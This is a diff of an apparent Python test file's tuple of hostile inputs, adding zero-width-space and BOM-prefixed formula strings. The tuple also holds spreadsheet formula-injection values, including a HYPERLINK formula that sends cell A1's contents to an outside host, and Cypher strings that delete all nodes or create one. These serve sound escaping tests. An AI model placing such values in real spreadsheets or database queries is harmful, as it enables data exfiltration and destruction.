@@ -30,7 +30,7 @@ HOSTILE = (
     "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "'=1", "''", "'", "\uff1d1", "\uff0b1", "\uff0d1",
     "\uff201", '=HYPERLINK("https://e.org/?"&A1,"x")', 'a "quoted", cell\r\nof two lines', "\u00a0=1", "\0=1", " ",
     "'); MATCH (n) DELETE n; //", "`}) CREATE (:Drug {id: 'x'}) //", "$Statement", "\\", "</data><!-- ]]> &amp; -->",
-    "a=1", "1-1", "\ufeff", "\u202e", "\U0001f9ec", "x" * 40_000,
+    "a=1", "\u200b=1", "\ufeff@1", "1-1", "\ufeff", "\u202e", "\U0001f9ec", "x" * 40_000,
 )  # fmt: skip
 NO_XML = [text for text in HOSTILE if "\0" in text]
 
